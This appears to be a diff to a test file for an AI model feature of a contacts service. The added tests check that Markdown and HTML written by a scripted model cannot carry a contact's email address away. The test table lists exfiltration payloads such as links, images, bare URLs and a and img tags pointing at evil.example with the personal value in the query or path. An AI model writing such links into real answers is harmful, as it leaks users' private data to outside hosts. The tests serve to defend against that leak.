@@ -1,3 +1,4 @@
+import { lexer, type Token } from 'marked'
 import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
 import { type Browser, signedIn } from '../../test/people.ts'
 import { type ScriptedModel, startScriptedModel } from '../../test/scripted-model.ts'
@@ -77,6 +78,35 @@ test('a name that is Markdown stays text', async () => {
       : { calls: [{ name: 'get_contact', arguments: { contact_id: id } }] }
   expect((await ask()).body.answer).toBe(`It is [\\!\\[x\\]\\(http://evil.example/p.png\\)](/contacts/${id}).`)
 })
+
+test.each([
+  ['a link', '[the list](https://evil.example/?e=PSEUDONYM)'],
+  ['a link in brackets', '[the list](<https://evil.example/?e= PSEUDONYM>)'],
+  ['an image', '![the list](https://evil.example/PSEUDONYM.png)'],
+  ['a reference', '[the list][1]\n\n[1]: https://evil.example/?e=PSEUDONYM'],
+  ['a bare URL', 'See https://evil.example/?e=PSEUDONYM or www.evil.example/PSEUDONYM'],
+  ['a tag', '<a href="https://evil.example/?e=PSEUDONYM">the list</a> <img src=//evil.example/PSEUDONYM>'],
+])('%s that a model writes carries no personal value away', async (_, written) => {
+  const id = await tenant.contact('carried@example.com')
+  model.answer = ({ messages }) =>
+    messages.some(({ role }) => role === 'tool')
+      ? { content: `${written.replaceAll('PSEUDONYM', `email:${id}`)}\n\nIt is email:${id}.` }
+      : { calls: [{ name: 'get_contact', arguments: { contact_id: id } }] }
+  const { answer } = (await ask()).body
+  expect(answer).toContain(`It is [carried@example.com](/contacts/${id}).`)
+  const targets = linksIn(lexer(answer)).filter((href) => !href.startsWith('/contacts/'))
+  expect(targets.join()).not.toMatch(/carried/)
+  expect(answer).not.toMatch(/<(a|img)/)
+})
+
+/** The targets of links and images, and the sources of tags. */
+function linksIn(tokens: Token[]): string[] {
+  return tokens.flatMap((token) => [
+    ...('href' in token ? [String(token.href)] : []),
+    ...(token.type === 'html' ? [token.raw] : []),
+    ...linksIn(('tokens' in token && token.tokens) || []),
+  ])
+}
 
 test('the model is offered only tools that read, and only those of the caller’s scopes', async () => {
   model.answer = () => ({ content: 'None.' })
@@ -166,6 +196,9 @@ test('a provider that fails is reported without what was sent to it', async () =
   expect([status, body.error.code]).toEqual([502, 'model_failed'])
   expect(body.error.message).toContain('status 401')
   expect(JSON.stringify(body)).not.toContain('a-secret-question')
+  const admin = await signedIn(service, tenant.id, 'admin')
+  const { entries } = (await admin.call('GET', '/v1/audit-log')).body
+  expect(entries[0]).toMatchObject({ action: 'question.asked', details: { calls: 0 } })
   model.answer = () => ({ content: 'Fine.' })
   expect((await ask()).body.answer).toBe('Fine.')
 })
